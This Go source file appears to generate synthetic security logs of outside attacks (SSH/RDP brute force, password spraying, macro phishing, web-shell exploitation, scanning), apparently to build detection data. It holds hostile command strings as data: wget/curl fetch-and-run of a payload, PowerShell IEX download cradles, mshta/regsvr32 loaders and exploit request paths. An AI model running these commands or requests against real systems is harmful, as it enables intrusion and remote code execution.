package gen

import (
	"net/url"
	"sort"
	"strings"
	"time"
)

// Scenarios of initial access and credential attacks from outside.

// attackerIP returns an external attacker address, from the documentation
// ranges or ordinary public space: neither tells benign from malicious.
func (b *builder) attackerIP() string { return publicIP(b.r, 0.4) }

var evilWords = []string{"cdn", "update", "sync", "cloud", "secure", "api", "static", "telemetry", "office",
	"msft", "azure", "login", "portal", "service", "data", "metrics", "edge", "app", "content", "assets"}
var evilTLDs = []string{".com", ".net", ".info", ".xyz", ".top", ".online", ".site", ".io"}

// evilDomain returns a registered domain an attacker might use.
func (b *builder) evilDomain() string {
	r := b.r
	if r.chance(0.3) {
		return r.letters("abcdefghijklmnopqrstuvwxyz", r.between(7, 11)) + pick(r, evilTLDs)
	}
	return pick(r, evilWords) + "-" + pick(r, evilWords) + pick(r, evilTLDs)
}

// evilHost returns a host name under an attacker domain, and the domain.
func (b *builder) evilHost() (host, reg string) {
	reg = b.evilDomain()
	if b.r.chance(0.5) {
		return reg, reg
	}
	return pick(b.r, []string{"www.", "cdn.", "static.", "api.", "dl."}) + reg, reg
}

var sshGuesses = []string{"root", "admin", "ubuntu", "oracle", "postgres", "test", "user", "git", "deploy", "pi", "ftpuser", "guest", "support"}
var sshValid = map[string]bool{"root": true, "ubuntu": true, "postgres": true, "git": true, "deploy": true}

func buildSSHBruteForce(b *builder) {
	r, w := b.r, b.w
	h := pick(r, []*machine{w.bastionHost, w.nginx[0], w.nginx[1], w.ciHost, w.pickLinux(r)})
	src := b.attackerIP()
	users := []string{pick(r, []string{"root", "root", "ubuntu", "deploy", "git", "postgres"})}
	if r.chance(0.4) {
		for n := r.between(2, 4); len(users) < n; {
			u := pick(r, sshGuesses)
			if r.chance(0.15) {
				u = pick(r, w.admins).Name
			}
			if !containsStr(users, u) {
				users = append(users, u)
			}
		}
	}
	n := r.between(20, 80)
	span := r.ms(30*time.Second, 140*time.Second)
	pid := h.sshdPID + r.between(2000, 40000)
	port := r.between(33000, 60000)
	fail := b.tags("T1110.001")
	for i := 0; i < n; i++ {
		b.t = b.start + span*int64(i)/int64(n) + r.Int64N(span/int64(n)/2+1)
		u := users[i%len(users)]
		if len(users) > 1 && r.chance(0.3) {
			u = pick(r, users)
		}
		invalid := !sshValid[u] && !isAdmin(w, u)
		b.add(fail).sshLogin(h, u, false, "password", src, port, pid, invalid)
		pid += r.between(1, 3)
		port += r.between(1, 40)
	}
	if !r.chance(0.7) {
		return
	}
	b.wait(1*time.Second, 8*time.Second)
	user := users[0]
	b.add(b.tags("T1078")).sshLogin(h, user, true, "password", src, port, pid, false)
	if !r.chance(0.6) {
		return
	}
	bash := proc{PID: pid + 2, Exe: "/usr/bin/bash", Cmd: "-bash"}
	b.wait(3*time.Second, 40*time.Second)
	// Bots size up the machine before dropping their payload.
	recon := r.Perm(len(botRecon))
	for i, n := 0, r.between(3, 5); i < n; i++ {
		c := botRecon[recon[i]]
		b.add(b.tags(c.tech)).linProcess(h, user, proc{PID: pid + 3 + i, Exe: c.exe, Cmd: c.cmd}, bash)
		b.wait(300*time.Millisecond, 4*time.Second)
	}
	dl := src
	if r.chance(0.5) {
		dl = b.attackerIP()
	}
	name := pick(r, []string{".x", ".kworker", "x86_64", ".dbus", "sshd2"})
	b.wait(5*time.Second, 60*time.Second)
	get := proc{PID: pid + r.between(21, 60), Exe: "/usr/bin/wget", Cmd: "wget -q http://" + dl + "/bins/x86_64 -O /tmp/" + name}
	if r.chance(0.4) {
		get = proc{PID: get.PID, Exe: "/usr/bin/curl", Cmd: "curl -s -o /tmp/" + name + " http://" + dl + "/bins/x86_64"}
	}
	b.add(b.tags("T1105")).linProcess(h, user, get, bash)
	b.wait(1*time.Second, 10*time.Second)
	sh := proc{PID: pid + r.between(61, 90), Exe: "/usr/bin/bash", Cmd: "bash -c chmod +x /tmp/" + name + " && /tmp/" + name}
	b.add(b.tags("T1059.004")).linProcess(h, user, sh, bash)
}

func containsStr(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

func isAdmin(w *world, name string) bool {
	for _, a := range w.admins {
		if a.Name == name {
			return true
		}
	}
	return false
}

// attackerWorkstation returns the workstation name an attacker's tool reports.
func (b *builder) attackerWorkstation() string {
	r := b.r
	switch r.IntN(4) {
	case 0:
		return "kali"
	case 1:
		return "WIN-" + r.letters(upperAN, 11)
	case 2:
		return "DESKTOP-" + r.letters(upperAN, 7)
	}
	return "-"
}

func buildRDPBruteForce(b *builder) {
	r, w := b.r, b.w
	var h *machine
	if r.chance(0.6) {
		h = w.pickWinServer(r)
	} else {
		h = w.pickWS(r)
	}
	user := "Administrator"
	switch x := r.IntN(100); {
	case x < 15:
		user = "admin"
	case x < 60:
		if h.User != nil {
			user = h.User.Name
		} else {
			user = w.pickUser(r).Name
		}
	}
	src := b.attackerIP()
	ws := b.attackerWorkstation()
	n := r.between(20, 60)
	span := r.ms(30*time.Second, 140*time.Second)
	fail := b.tags("T1110.001")
	for i := 0; i < n; i++ {
		b.t = b.start + span*int64(i)/int64(n) + r.Int64N(span/int64(n)/2+1)
		e := b.add(fail)
		e.winLogon(h, user, w.domain, false, 10, src, r.port(), ws)
		if user == "admin" {
			e.FailSub = "0xc0000064"
		}
	}
	if user == "admin" || !r.chance(0.75) {
		return
	}
	b.wait(1*time.Second, 8*time.Second)
	b.add(b.tags("T1078")).winLogon(h, user, w.domain, true, 10, src, r.port(), ws)
}

var sprayDecoys = []string{"administrator", "test", "guest", "scanner", "helpdesk", "backup", "training", "reception", "sql", "ftp"}

func buildPasswordSpray(b *builder) {
	r, w := b.r, b.w
	external := r.chance(0.6)
	var target *machine
	var src, ws string
	if external {
		target, src, ws = w.exch, b.attackerIP(), "-"
	} else {
		target = pick(r, w.dcs)
		h := w.pickWS(r)
		src, ws = h.IP, h.Name
	}
	k := r.between(15, 40)
	var users []string
	valid := map[string]bool{}
	for len(users) < k {
		var u string
		if r.chance(0.85) {
			u = w.pickUser(r).Name
			valid[u] = true
		} else {
			u = pick(r, sprayDecoys)
		}
		if !containsStr(users, u) {
			users = append(users, u)
		}
	}
	sort.Strings(users)
	rounds := 1
	if r.chance(0.5) {
		rounds = 2
	}
	span := r.ms(2*time.Minute, 10*time.Minute) - 10_000
	total := int64(k * rounds)
	spray := b.tags("T1110.003")
	i := int64(0)
	for round := 0; round < rounds; round++ {
		for _, u := range users {
			b.t = b.start + span*i/total
			i++
			e := b.add(spray)
			e.winLogon(target, u, w.domain, false, 3, src, r.port(), ws)
			if !valid[u] {
				e.FailSub = "0xc0000064"
			}
		}
	}
	if external && r.chance(0.25) {
		var u string
		for _, x := range users {
			if valid[x] {
				u = x
				break
			}
		}
		if u != "" {
			b.wait(500*time.Millisecond, 5*time.Second)
			b.add(b.tags("T1078")).winLogon(target, u, w.domain, true, 3, src, r.port(), ws)
		}
	}
}

var lureNames = []string{"Invoice_%n", "Payment_Advice_%n", "Scan_%n", "Purchase_Order_%n", "Shipping_Documents_%n", "Salary_Review_2026", "Remittance_%n", "Contract_Amendment"}

// downloadURL returns a payload URL on an attacker host, and the host's
// name (or IP), registered domain ("" for an IP) and address.
func (b *builder) downloadURL(exts []string) (u, host, reg, ip string) {
	r := b.r
	ip = b.attackerIP()
	if r.chance(0.65) {
		host, reg = b.evilHost()
	} else {
		host = ip
	}
	scheme := "http://"
	if reg != "" && r.chance(0.4) {
		scheme = "https://"
	}
	path := "/" + pick(r, []string{"a", "s", "update", "news", "images/logo", "wp-content/uploads/2025/12/doc", "files/" + r.hex(6)}) + pick(r, exts)
	return scheme + host + path, host, reg, ip
}

// fetch adds the DNS lookup (when host is a name) and the connection of p
// to ip, as seen by Sysmon and the firewall, with tg on the connection.
func (b *builder) fetch(h *machine, u *person, p proc, host, reg, ip string, port int, tg *tags, bytesIn int64) {
	r, w := b.r, b.w
	if reg != "" {
		b.add(b.none()).dns(h, u.Name, w.domain, p, b.g.resolver(h), host, "A", reg, ip)
		b.wait(5*time.Millisecond, 200*time.Millisecond)
	}
	sport := r.port()
	b.add(tg).sysmonConn(h, u.Name, w.domain, p, h.IP, sport, ip, port, "tcp")
	b.wait(200*time.Millisecond, 3*time.Second)
	b.add(tg).firewall(h, u.Name, true, h.IP, sport, ip, port, "tcp", int64(r.between(300, 900)), bytesIn)
}

func schemePort(u string) int {
	if strings.HasPrefix(u, "https") {
		return 443
	}
	return 80
}

func buildPhishingMacro(b *builder) {
	r, w := b.r, b.w
	h := w.pickWS(r)
	u := h.User
	word := r.chance(0.65)
	ext := pick(r, []string{".docm", ".doc"})
	office := proc{PID: r.winPID(), Exe: pathWord}
	if !word {
		ext = pick(r, []string{".xlsm", ".xls"})
		office.Exe = pathExcel
	}
	name := b.g.expand(pick(r, lureNames), u.Name, h) + ext
	var path string
	var dropper proc
	if r.chance(0.6) {
		path = userDir(u, `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\`+r.letters(upperAN, 8)+`\`+name)
		dropper = proc{PID: r.winPID(), Exe: pathOutlook}
	} else {
		path = userDir(u, `\Downloads\`+name)
		dropper = proc{PID: r.winPID(), Exe: pathChrome}
	}
	phish := b.tags("T1566.001")
	b.add(phish).file(h, u.Name, w.domain, dropper, "file-created", path)
	b.wait(10*time.Second, 10*time.Minute)
	if word {
		office.Cmd = `"` + pathWord + `" /n "` + path + `" /o ""`
	} else {
		office.Cmd = `"` + pathExcel + `" "` + path + `"`
	}
	parent := explorerProc(h)
	if dropper.Exe == pathOutlook {
		parent = dropper
	}
	b.add(b.tags("T1566.001", "T1204.002")).winProcess(h, u.Name, w.domain, office, parent, "Medium")
	b.wait(2*time.Second, 20*time.Second)

	dl, host, reg, ip := b.downloadURL([]string{".ps1", ".txt", ".hta", ".sct", ".png"})
	child := proc{PID: r.winPID()}
	var childTags *tags
	switch r.IntN(4) {
	case 0: // cmd.exe, then PowerShell
		cmd := proc{PID: r.winPID(), Exe: pathCmd,
			Cmd: `cmd.exe /c powershell -w hidden -nop -c "IEX(New-Object Net.WebClient).DownloadString('` + dl + `')"`}
		b.add(b.tags("T1566.001", "T1204.002", "T1059.003")).winProcess(h, u.Name, w.domain, cmd, office, "Medium")
		b.wait(20*time.Millisecond, 300*time.Millisecond)
		child.Exe = pathPowerShell
		child.Cmd = `powershell  -w hidden -nop -c "IEX(New-Object Net.WebClient).DownloadString('` + dl + `')"`
		b.add(b.tags("T1059.001")).winProcess(h, u.Name, w.domain, child, cmd, "Medium")
	case 1:
		child.Exe = pathPowerShell
		drop := `$env:TEMP\` + pick(r, []string{"upd", "invoice", "svc", "a"}) + ".exe"
		child.Cmd = `powershell.exe -nop -w hidden -c "(New-Object Net.WebClient).DownloadFile('` + dl + `',\"` + drop + `\");Start-Process \"` + drop + `\""`
		childTags = b.tags("T1566.001", "T1204.002", "T1059.001")
	case 2:
		child.Exe = `C:\Windows\System32\mshta.exe`
		child.Cmd = `mshta.exe ` + dl
		childTags = b.tags("T1566.001", "T1204.002", "T1218.005")
	default:
		child.Exe = `C:\Windows\System32\regsvr32.exe`
		child.Cmd = `regsvr32.exe /s /n /u /i:` + dl + ` scrobj.dll`
		childTags = b.tags("T1566.001", "T1204.002", "T1218.010")
	}
	if childTags != nil {
		b.add(childTags).winProcess(h, u.Name, w.domain, child, office, "Medium")
	}
	b.wait(300*time.Millisecond, 3*time.Second)
	b.fetch(h, u, child, host, reg, ip, schemePort(dl), b.tags("T1105"), int64(r.between(4_000, 400_000)))
}

var webshellUAs = []string{
	"python-requests/2.31.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
	"curl/7.88.1",
	"Go-http-client/1.1",
}

type shellCmd struct {
	cmd, exe, tech string
}

var winShellCmds = []shellCmd{
	{"whoami", `C:\Windows\System32\whoami.exe`, "T1033"},
	{"whoami /priv", `C:\Windows\System32\whoami.exe`, "T1033"},
	{"ipconfig /all", `C:\Windows\System32\ipconfig.exe`, "T1016"},
	{"systeminfo", `C:\Windows\System32\systeminfo.exe`, "T1082"},
	{"hostname", `C:\Windows\System32\HOSTNAME.EXE`, "T1082"},
}

var linShellCmds = []shellCmd{
	{"id", "/usr/bin/id", "T1033"},
	{"whoami", "/usr/bin/whoami", "T1033"},
	{"uname -a", "/usr/bin/uname", "T1082"},
	{"hostname", "/usr/bin/hostname", "T1082"},
	{"ip a", "/usr/sbin/ip", "T1016"},
}

// botRecon are the commands SSH bots run after logging in.
var botRecon = []struct{ cmd, exe, tech string }{
	{"uname -a", "/usr/bin/uname", "T1082"},
	{"nproc", "/usr/bin/nproc", "T1082"},
	{"cat /proc/cpuinfo", "/usr/bin/cat", "T1082"},
	{"free -m", "/usr/bin/free", "T1082"},
	{"w", "/usr/bin/w", "T1033"},
	{"id", "/usr/bin/id", "T1033"},
	{"lscpu", "/usr/bin/lscpu", "T1082"},
}

func buildWebshell(b *builder) {
	r, w := b.r, b.w
	src := b.attackerIP()
	ua := pick(r, webshellUAs)
	exploit := b.tags("T1190")
	use := b.tags("T1505.003")
	var srv *machine
	switch x := r.IntN(10); {
	case x < 4:
		srv = w.web
	case x < 6:
		srv = w.exch
	default:
		srv = pick(r, w.nginx)
	}
	name := pick(r, []string{"shell", "cmd", "help", "error", "iisstart2", "log", "errorpage", "s", "up", "config"})
	if r.chance(0.5) {
		name += r.hex(4)
	}
	var shellPath string
	var procUser, procDomain string
	switch srv {
	case w.web:
		switch r.IntN(2) {
		case 0:
			b.add(exploit).web(srv, src, r.port(), "POST", "/Telerik.Web.UI.WebResource.axd", "type=rau", 200, ua, int64(r.between(200, 900)))
		default:
			b.add(exploit).web(srv, src, r.port(), "GET", "/portal/Download.aspx", "file=..%5c..%5c..%5cweb.config", 200, ua, int64(r.between(2000, 9000)))
			b.wait(5*time.Second, 60*time.Second)
			b.add(exploit).web(srv, src, r.port(), "POST", "/portal/Upload.aspx", "", 200, ua, int64(r.between(200, 900)))
		}
		shellPath = `/aspnet_client/system_web/` + name + `.aspx`
		procUser, procDomain = "DefaultAppPool", "IIS APPPOOL"
		b.wait(500*time.Millisecond, 5*time.Second)
		b.add(use).file(srv, procUser, procDomain, w3wpProc(srv), "file-created", `C:\inetpub\wwwroot`+strings.ReplaceAll(shellPath, "/", `\`))
	case w.exch:
		q := "@" + b.evilDomain() + "/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@" + b.evilDomain()
		b.add(exploit).web(srv, src, r.port(), "GET", "/autodiscover/autodiscover.json", q, 200, ua, int64(r.between(300, 2000)))
		b.wait(2*time.Second, 30*time.Second)
		b.add(exploit).web(srv, src, r.port(), "POST", "/autodiscover/autodiscover.json", "@"+b.evilDomain()+"/powershell/?X-Rps-CAT="+r.letters(alnum, 24), 200, ua, int64(r.between(300, 2000)))
		shellPath = `/owa/auth/` + name + `.aspx`
		procUser, procDomain = system, ntAuthority
		b.wait(2*time.Second, 30*time.Second)
		b.add(use).file(srv, procUser, procDomain, w3wpProc(srv), "file-created",
			`C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\`+name+`.aspx`)
	default:
		switch r.IntN(3) {
		case 0:
			b.add(exploit).web(srv, src, r.port(), "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", 200, ua, int64(r.between(20, 200)))
		case 1:
			b.add(exploit).web(srv, src, r.port(), "GET", "/index.php", `s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`, 200, ua, int64(r.between(100, 600)))
		default:
			b.add(exploit).web(srv, src, r.port(), "POST", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "", 200, ua, int64(r.between(100, 600)))
		}
		shellPath = `/wp-content/uploads/2026/01/` + name + `.php`
		procUser = "www-data"
	}
	phpFPM := proc{PID: r.linuxPID(), Exe: "/usr/sbin/php-fpm8.1", Cmd: "php-fpm: pool www"}
	cmds := winShellCmds
	if srv.OS == linux {
		cmds = linShellCmds
	}
	order := r.Perm(len(cmds))
	for i, n := 0, r.between(3, len(cmds)); i < n; i++ {
		c := cmds[order[i]]
		b.wait(5*time.Second, 90*time.Second)
		q := "cmd=" + url.QueryEscape(c.cmd)
		b.add(use).web(srv, src, r.port(), pick(r, []string{"GET", "POST"}), shellPath, q, 200, ua, int64(r.between(40, 3000)))
		b.wait(5*time.Millisecond, 150*time.Millisecond)
		if srv.OS == windows {
			sh := proc{PID: r.winPID(), Exe: pathCmd, Cmd: `cmd.exe /c ` + c.cmd}
			b.add(b.tags("T1505.003", "T1059.003")).winProcess(srv, procUser, procDomain, sh, w3wpProc(srv), "High")
			b.wait(5*time.Millisecond, 60*time.Millisecond)
			leaf := proc{PID: r.winPID(), Exe: c.exe, Cmd: c.cmd}
			b.add(b.tags("T1505.003", c.tech)).winProcess(srv, procUser, procDomain, leaf, sh, "High")
		} else {
			sh := proc{PID: r.linuxPID(), Exe: "/usr/bin/dash", Cmd: "sh -c " + c.cmd}
			b.add(b.tags("T1505.003", "T1059.004")).linProcess(srv, procUser, sh, phpFPM)
			b.wait(2*time.Millisecond, 30*time.Millisecond)
			leaf := proc{PID: sh.PID + 1, Exe: c.exe, Cmd: c.cmd}
			b.add(b.tags("T1505.003", c.tech)).linProcess(srv, procUser, leaf, sh)
		}
	}
}

var scannerUAs = []string{
	"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%n)",
	"sqlmap/1.8.2#stable (https://sqlmap.org)",
	"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
	"gobuster/3.6",
	"Fuzz Faster U Fool v2.1.0-dev",
	"WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
}

var vulnPaths = []string{"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/server-status",
	"/actuator/env", "/config.php.bak", "/backup.zip", "/.DS_Store", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/cgi-bin/test-cgi", "/manager/html", "/solr/admin/info/system", "/api/v1/pods", "/console/login/LoginForm.jsp",
	"/owa/auth/x.js", "/.aws/credentials", "/web.config", "/xmlrpc.php", "/jenkins/script", "/HNAP1/", "/boaform/admin/formLogin",
	"/remote/fgt_lang", "/global-protect/login.esp", "/+CSCOE+/logon.html", "/druid/index.html", "/telescope/requests"}
var wordlistDirs = []string{"admin", "backup", "old", "test", "dev", "tmp", "uploads", "logs", "db", "sql", "private",
	"secret", "config", "api", "internal", "staging", "bak", "install", "setup", "debug", "portal", "data", "files", "cgi-bin"}
var wordlistExts = []string{"", "/", ".php", ".aspx", ".bak", ".zip", ".old", ".txt", ".sql", ".tar.gz"}

func buildWebScan(b *builder) {
	r, w := b.r, b.w
	srv := pick(r, []*machine{w.web, w.nginx[0], w.nginx[1], w.exch})
	src := b.attackerIP()
	ua := b.g.expand(pick(r, scannerUAs), "", srv)
	n := r.between(100, 400)
	span := r.ms(1*time.Minute, 5*time.Minute)
	vuln, words := b.tags("T1595.002"), b.tags("T1595.003")
	port := r.port()
	for i := 0; i < n; i++ {
		b.t = b.start + span*int64(i)/int64(n)
		var path string
		tg := vuln
		if r.chance(0.4) {
			path = pick(r, vulnPaths)
		} else {
			path = "/" + pick(r, wordlistDirs) + pick(r, wordlistExts)
			if r.chance(0.3) {
				path = "/" + pick(r, wordlistDirs) + path
			}
			tg = words
		}
		status := 404
		switch x := r.IntN(100); {
		case x < 5:
			status = 403
		case x < 8:
			status = 301
		case x < 10:
			status = 400
		case x < 12:
			status = 200
		}
		size := int64(r.between(150, 1200))
		method := "GET"
		if r.chance(0.05) {
			method = "POST"
		}
		port++
		if port > 65535 {
			port = 49152
		}
		b.add(tg).web(srv, src, port, method, path, "", status, ua, size)
	}
}
